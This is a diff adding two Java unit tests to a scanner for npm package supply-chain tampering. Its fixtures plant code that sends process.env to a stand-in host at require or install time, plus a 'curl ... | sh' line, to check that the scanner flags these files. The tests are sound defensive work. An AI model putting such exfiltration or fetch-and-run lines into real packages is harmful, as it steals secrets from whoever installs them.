@@ -317,6 +317,33 @@ class NpmScanTest {
     }
 
     @Test
+    void aModuleAPublishScriptWritesThatThePackagesCodeLoadsIsNotBuildOutputButDataAndUnloadedFilesAre() throws Exception {
+        // red9 case9: "prepare": "node -p \"'module.exports = ' + ...version\" > version.js", index.js requires it;
+        // the shipped version.js also sends process.env away at require time. lib/data.json (required, parsed as
+        // data) and dist/bundle.js (nothing loads it) stay build output.
+        String scripts = ",\n  \"scripts\": {\"prepare\": \"node -p \\\"'module.exports = ' + JSON.stringify("
+                + "require('./package.json').version)\\\" > version.js && node d > lib/data.json"
+                + " && node b > dist/bundle.js && node c > lib/helper.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
+                ".gitignore", "version.js\n", "index.js", "exports.version = require('./version.js');\n"
+                        + "exports.data = require('./lib/data');\n", "cli.js", "require('./index');\n",
+                "lib/use.js", "var h = '../lib/helper';\nmodule.exports = require(h);\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree,
+                "version.js", "module.exports = \"4.9.0\";\nrequire(\"https\").get(\"https://example.invalid/c?d=\" + "
+                        + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n",
+                "lib/data.json", "{\"a\":1}\n", "dist/bundle.js", "(function(){ var a = 2; })();\n",
+                "lib/helper.js", "module.exports = 3;\n"));
+        FileDivergence version = row(a, "package/version.js");
+        assertEquals(FileStatus.PHANTOM, version.status());
+        assertEquals("compare.unexplained", version.ruleId());
+        // a module loaded through a string literal that is not a require argument is still loaded
+        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/helper.js").status());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/data.json").status());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
+        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
     void aFileWrittenOnlyByAScriptThatDidNotRunAtPublishIsNotExplained() throws Exception {
         // a script publishing does not run (test) and a script only the published manifest declares explain
         // nothing; a stderr log and a command run in another folder write no file of the package
@@ -360,6 +387,33 @@ class NpmScanTest {
             assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
             assertTrue(f.highRisk(), p);
         }
+    }
+
+    @Test
+    void whatNodeResolvesForAnInstallScriptAndItsInputRedirectsRunAtInstall() throws Exception {
+        // red9 case6: "node scripts/setup" runs scripts/setup.js; -r/--import modules, a folder's package.json main
+        // and index file; red9 case4: "node <> scripts/run.js" (sh opens it read-write as node's stdin)
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.1",
+                        ",\n  \"scripts\": {\"preinstall\": \"node <> scripts/run.js\","
+                                + " \"install\": \"node -r ./hooks/a --import=./hooks/b scripts/setup > setup.log\","
+                                + " \"postinstall\": \"node tool && node lib\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "scripts/setup.js", "module.exports = 0;\n", "scripts/run.js", "module.exports = 0;\n",
+                "scripts/setup.sh", "true\n", "hooks/a.js", "0;\n", "hooks/b.mjs", "0;\n",
+                "tool/package.json", "{\"main\": \"./main\"}\n", "tool/main.js", "0;\n", "lib/index.js", "0;\n");
+        String payload = "require('https').get('https://example.invalid/c?d=' + JSON.stringify(process.env));\n";
+        ArtifactReport a = publishAndScan(tree, "4.8.1", with(tree, "scripts/setup.js", payload,
+                "scripts/run.js", payload, "hooks/a.js", payload, "hooks/b.mjs", payload, "tool/main.js", payload,
+                "lib/index.js", payload, "scripts/setup.sh", "curl -s https://example.invalid | sh\n"));
+        for (String p : List.of("scripts/setup.js", "scripts/run.js", "hooks/a.js", "hooks/b.mjs", "tool/main.js",
+                "lib/index.js")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
+            assertTrue(f.highRisk(), p);
+        }
+        // a file with the name but an extension Node never adds is not what runs
+        assertFalse(row(a, "package/scripts/setup.sh").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
     @Test
